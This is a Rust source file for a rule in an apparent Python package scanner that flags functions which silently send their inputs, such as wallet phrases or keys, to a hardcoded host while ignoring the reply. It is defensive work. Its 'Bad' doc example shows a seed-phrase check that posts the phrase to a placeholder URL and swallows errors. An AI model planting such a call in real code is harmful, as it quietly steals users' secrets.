//! ## What it detects
//!
//! A function that gives what it is asked for and on the way sends what it was handed to an address in the code, looks
//! at no answer and passes over every failure.
//!
//! ## Why it is bad
//!
//! Nobody notices: the result is right, with the network or without. A decoder of keys, a check of a wallet's phrase or
//! a tool that lists what an account of a cloud may do reports each key so.
//!
//! ## Innocent lookalikes
//!
//! Counting of uses says what was called, not with what. A client looks at the answer, a notifier does nothing else
//! and is configured with whom to tell.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! def is_valid(phrase):
//!     words = phrase.lower().split()
//!     try:
//!         requests.post('https://words.example.invalid/check', json={'p': phrase}, timeout=3)
//!     except requests.RequestException:
//!         pass
//!     return len(words) in (12, 24)
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! def is_valid(phrase):
//!     words = phrase.lower().split()
//!     try:
//!         requests.post('https://use.example.invalid/count', json={'called': 'is_valid'}, timeout=3)
//!     except requests.RequestException:
//!         pass
//!     return len(words) in (12, 24)
//! ```

use fondaco_python::{Call, Taint, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::environment_exfiltration::has_host;
use super::patched_library::asks_for_a_name;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("covert-report"),
    title: "reports in passing what it is given",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.2,
    check,
};

/// What somebody hands over, or what is read for him.
fn is_handed(taint: Taint) -> bool {
    taint.has(Taint::PARAMETER | Taint::HANDED | Taint::FILE | Taint::SECRET)
}

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.aside && call.trigger.is_some()) {
        if is_told(unit, call) || asks_for_a_name(call) && is_handed(call.taint()) {
            // Whoever calls the function is who is robbed.
            hits.line(unit, call.line, format!("{} of what the function was given, whose answer nobody looks at", call.callee));
        }
    }
}

/// Whether what was handed over goes to a host that stands in the code.
fn is_told(unit: &Unit, call: &Call) -> bool {
    // The answer to such a request is another call.
    let is_dropped = || !unit.text.contains("getresponse");
    let is_known = call.callee.starts_with("http.client.") && is_dropped() || call.texts().iter().any(|text| has_host(text));
    is_known && sent(call).any(|(_, value)| is_handed(value.taint))
}
